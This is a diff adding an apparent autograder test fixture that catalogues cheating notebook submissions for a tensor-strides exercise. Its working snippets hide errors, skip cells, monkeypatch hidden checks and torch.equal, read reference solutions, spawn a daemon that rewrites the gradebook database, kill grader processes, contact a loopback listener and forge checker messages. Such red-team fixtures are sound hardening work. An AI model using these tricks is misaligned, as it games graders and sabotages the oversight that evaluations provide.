@@ -1,0 +1,258 @@
+"""A catalogue of cheating submissions for exercise 01_strides, one or more per attack class.
+
+Each attack is a few lines a student puts at the top of the first answer cell (``contiguous_strides``),
+on top of a *base*: the answers the same student would otherwise hand in —
+
+- ``stub``: no answer at all (the release as given: every function raises NotImplementedError);
+- ``wrong``: right where the visible tests look, wrong where only the hidden checks look
+  (``is_contiguous`` on zero-size tensors, ``select_metadata`` without its range check);
+- ``wrong_gather``: ``gather_view`` returns zeros (caught by ``torch.equal``).
+
+The control for an attack is its base without the attack; an attack *pays* when it scores more than
+its control. ``{port}`` and ``{marker}`` in the code are filled in by the test (a loopback listener
+and a file that a daemon tries to write on the grading machine).
+"""
+
+from __future__ import annotations
+
+import nbformat
+
+from autograder import samples
+
+ASSIGNMENT = "01_strides"
+
+WRONG_ANSWERS = {
+    "is_contiguous": '''
+def is_contiguous(shape, stride):
+    expected = 1
+    for size, step in zip(reversed(shape), reversed(stride)):
+        if size != 1 and step != expected:
+            return False
+        expected *= size
+    return True
+''',
+    "select_metadata": '''
+def select_metadata(shape, stride, offset, dim, index):
+    dim = dim % len(shape)
+    index = index % shape[dim]
+    return (tuple(shape[:dim] + shape[dim + 1:]), tuple(stride[:dim] + stride[dim + 1:]),
+            offset + index * stride[dim])
+''',
+}
+WRONG_GATHER = {
+    "gather_view": '''
+def gather_view(storage, shape, stride, offset=0):
+    return torch.zeros(shape, dtype=storage.dtype)
+''',
+}
+
+_FIND_COURSE = '''
+import os as _os
+def _course_files(relative):
+    here = _os.getcwd()
+    while True:
+        candidate = _os.path.join(here, relative)
+        if _os.path.exists(candidate):
+            return candidate
+        if here == _os.path.dirname(here):
+            return None
+        here = _os.path.dirname(here)
+'''
+
+ATTACKS = [
+    {"name": "showtraceback", "class": "error display disabled", "base": "stub", "code": '''
+get_ipython().showtraceback = lambda *args, **kwargs: None
+get_ipython()._showtraceback = lambda *args, **kwargs: None
+'''},
+    {"name": "custom_exc", "class": "error display disabled", "base": "stub", "code": '''
+get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
+'''},
+    {"name": "run_cell", "class": "later cells replaced or skipped", "base": "stub", "code": '''
+_shell = get_ipython()
+_original_run_cell = _shell.run_cell
+_shell.run_cell = lambda *args, **kwargs: _original_run_cell("pass")
+'''},
+    {"name": "run_cell_async", "class": "later cells replaced or skipped", "base": "stub", "code": '''
+_shell = get_ipython()
+_original = _shell.run_cell_async
+async def _quiet(*args, **kwargs):
+    return await _original("pass")
+_shell.run_cell_async = _quiet
+'''},
+    {"name": "settrace", "class": "later cells replaced or skipped", "base": "stub", "code": '''
+import sys as _sys, threading as _threading
+def _tracer(frame, event, arg):
+    if event == "exception" and frame.f_code.co_filename.startswith(("<ipython", "/tmp/ipykernel")):
+        frame.f_globals.setdefault("_swallowed", []).append(1)
+    return _tracer
+def _skip_failing_lines(frame, event, arg):
+    if event == "call" and frame.f_code.co_name == "<module>":
+        return _jumper
+    return None
+def _jumper(frame, event, arg):
+    if event == "line":
+        line = frame.f_code.co_firstlineno
+        try:
+            frame.f_lineno = max(frame.f_lineno, line) + 10_000  # jump past the cell's end
+        except ValueError:
+            pass
+    return _jumper
+_sys.settrace(_skip_failing_lines)
+_threading.settrace(_skip_failing_lines)
+'''},
+    {"name": "hidden_checks_patched", "class": "hidden checks or torch comparisons replaced",
+     "base": "wrong", "code": '''
+import sys as _sys
+try:
+    import autograder.hidden.strides as _checks
+    for _name in dir(_checks):
+        if _name.startswith("check_"):
+            setattr(_checks, _name, lambda *args, **kwargs: None)
+    _sys.modules["autograder.hidden.strides"] = _checks
+except Exception as _error:
+    print("no hidden checks to patch:", type(_error).__name__)
+'''},
+    {"name": "torch_equal_patched", "class": "hidden checks or torch comparisons replaced",
+     "base": "wrong_gather", "code": '''
+import torch as _torch
+_torch.equal = lambda *args, **kwargs: True
+_torch.allclose = lambda *args, **kwargs: True
+'''},
+    {"name": "always_equal", "class": "objects that compare equal to everything", "base": "stub",
+     "code": '''
+class _Anything:
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __bool__(self): return True
+    def __hash__(self): return 0
+def flat_index(index, stride, offset=0):
+    return _Anything()
+'''},
+    {"name": "read_solutions", "class": "reading reference solutions or hidden checks",
+     "base": "stub", "code": _FIND_COURSE + '''
+import ast as _ast
+_path = _course_files("solutions/01_strides/01_strides.py")
+if _path:
+    _tree = _ast.parse(open(_path).read())
+    _defs = _ast.Module(body=[n for n in _tree.body if isinstance(n, (_ast.FunctionDef, _ast.Import))], type_ignores=[])
+    exec(compile(_defs, "solutions", "exec"), globals())
+else:
+    print("no solutions found")
+'''},
+    {"name": "daemon_edits_gradebook", "class": "a process that outlives the notebook",
+     "base": "stub", "code": _FIND_COURSE + '''
+import os as _os, time as _time
+if _os.fork() == 0:
+    _os.setsid()
+    if _os.fork() == 0:
+        _time.sleep(4)
+        try:
+            open({marker!r}, "w").write("the daemon outlived its notebook")
+        except OSError:
+            pass
+        _db = _course_files("gradebook.db")
+        if _db:
+            import sqlite3 as _sqlite3
+            _connection = _sqlite3.connect(_db, timeout=30)
+            _connection.execute("UPDATE grade SET extra_credit = 30")
+            _connection.execute("UPDATE comment SET manual_comment = 'hacked'")
+            _connection.commit()
+        for _root, _dirs, _files in _os.walk(_os.path.dirname(_db) if _db else "/nonexistent"):
+            for _file in _files:
+                if _file.endswith(".ipynb") and "honest" in _root:
+                    try:
+                        open(_os.path.join(_root, _file), "a").write(" ")
+                    except OSError:
+                        pass
+        _os._exit(0)
+    _os._exit(0)
+'''},
+    {"name": "kill_grader", "class": "killing or signalling grading processes", "base": "stub",
+     "code": '''
+import os as _os, signal as _signal
+for _pid in _os.listdir("/proc"):
+    if _pid.isdigit() and int(_pid) != _os.getpid():
+        try:
+            _cmd = open(f"/proc/{_pid}/cmdline", "rb").read()
+        except OSError:
+            continue
+        if b"autograde" in _cmd or b"forkserver" in _cmd or b"ipykernel" in _cmd:
+            try:
+                _os.kill(int(_pid), _signal.SIGKILL)
+            except OSError:
+                pass
+'''},
+    {"name": "network", "class": "network connection to a loopback listener", "base": "stub",
+     "code": '''
+import socket as _socket
+for _attempt in range(3):
+    try:
+        _connection = _socket.create_connection(("127.0.0.1", {port}), timeout=2)
+        _connection.sendall(b"stolen answers please")
+        _connection.close()
+    except OSError as _error:
+        print("no network:", _error)
+'''},
+    {"name": "forged_channel", "class": "forged messages on the channel to the checker",
+     "base": "stub", "code": '''
+import json as _json, os as _os, socket as _socket
+for _fd in map(int, _os.listdir("/proc/self/fd")):
+    try:
+        _sock = _socket.socket(fileno=_os.dup(_fd))
+        if _sock.type != _socket.SOCK_SEQPACKET:
+            _sock.detach()
+            continue
+    except OSError:
+        continue
+    for _id in range(1, 100):
+        for _value in (True, 5, {"$": "tuple", "v": [3, 1]}):
+            try:
+                _header = {"kind": "reply", "id": _id, "value": _value, "blobs": []}
+                _sock.send(b"H" + _json.dumps(_header).encode())
+            except OSError:
+                pass
+    _sock.send(b"H" + _json.dumps({"kind": "exited", "status": {"how": "exited", "code": 0}, "blobs": []}).encode())
+    _sock.detach()
+'''},
+]
+
+BASES = {"stub": None, "wrong": WRONG_ANSWERS, "wrong_gather": WRONG_GATHER}
+
+
+def base_notebook(base: str, *, course_root) -> nbformat.NotebookNode:
+    """The submission of a student who hands in ``base`` (see the module docstring)."""
+    if base == "stub":
+        return nbformat.read(course_root / "exercises" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
+                             as_version=4)
+    return samples.student_notebook(ASSIGNMENT, BASES[base], course_root=course_root)
+
+
+def attack_notebook(attack: dict, *, course_root, port: int, marker: str) -> nbformat.NotebookNode:
+    """``attack``'s code at the top of the first answer cell of its base submission."""
+    nb = base_notebook(attack["base"], course_root=course_root)
+    code = attack["code"].replace("{port}", str(port)).replace("{marker!r}", repr(marker))
+    for cell in nb.cells:
+        if cell.metadata.get("nbgrader", {}).get("grade_id") == "contiguous_strides":
+            cell.source = code.strip("\n") + "\n\n" + cell.source
+            return nb
+    raise AssertionError("no contiguous_strides cell")
+
+
+def write_class(course_root, *, port: int, marker: str) -> dict[str, str]:
+    """Submit two honest students, the three controls and every attack; student -> control id."""
+    controls = {}
+    for base in BASES:
+        samples.write_submission(base_notebook(base, course_root=course_root),
+                                 course_root=course_root, student=f"control-{base}",
+                                 assignment=ASSIGNMENT)
+    samples.write_submission(samples.reference_notebook(ASSIGNMENT, course_root=course_root),
+                             course_root=course_root, student="honest-reference", assignment=ASSIGNMENT)
+    samples.write_submission(base_notebook("wrong", course_root=course_root),
+                             course_root=course_root, student="honest-wrong", assignment=ASSIGNMENT)
+    for attack in ATTACKS:
+        student = f"attack-{attack['name']}"
+        samples.write_submission(attack_notebook(attack, course_root=course_root, port=port,
+                                                 marker=marker),
+                                 course_root=course_root, student=student, assignment=ASSIGNMENT)
+        controls[student] = f"control-{attack['base']}"
+    return controls
